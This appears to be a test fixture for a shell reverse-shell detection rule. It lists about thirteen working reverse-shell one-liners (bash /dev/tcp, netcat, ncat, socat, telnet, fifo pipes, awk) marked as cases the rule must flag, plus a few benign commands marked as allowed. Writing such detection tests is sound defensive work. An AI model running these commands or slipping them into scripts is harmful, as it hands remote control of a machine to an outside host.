#!/bin/bash
# ruleid: bash.proc.reverse_shell
bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
# ruleid: bash.proc.reverse_shell
sh -i >& /dev/udp/10.0.0.1/4444 0>&1
# ruleid: bash.proc.reverse_shell
nc -e /bin/sh 10.0.0.1 4444
# ruleid: bash.proc.reverse_shell
ncat 10.0.0.1 4444 --sh-exec "bash -i"
# ruleid: bash.proc.reverse_shell
nc.traditional -c bash 10.0.0.1 4444
# ruleid: bash.proc.reverse_shell
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f
# ruleid: bash.proc.reverse_shell
socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane
# ruleid: bash.proc.reverse_shell
telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445
# ruleid: bash.proc.reverse_shell
exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done
# ruleid: bash.proc.reverse_shell
nohup bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' &
# ruleid: bash.proc.reverse_shell
0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196
# ruleid: bash.proc.reverse_shell
awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while (1) { printf "> " |& s; s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c) } }'

# ok: bash.proc.reverse_shell
echo "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
# ok: bash.proc.reverse_shell
nc -zv 10.0.0.1 4444
# ok: bash.proc.reverse_shell
bash ./scripts/build.sh > build.log 2>&1
# ok: bash.proc.reverse_shell
echo hello > /dev/tcp/127.0.0.1/8080
# ruleid: bash.proc.reverse_shell
rm -f /tmp/p; mknod /tmp/p p && /bin/sh 0</tmp/p | nc 203.0.113.5 443 1>/tmp/p
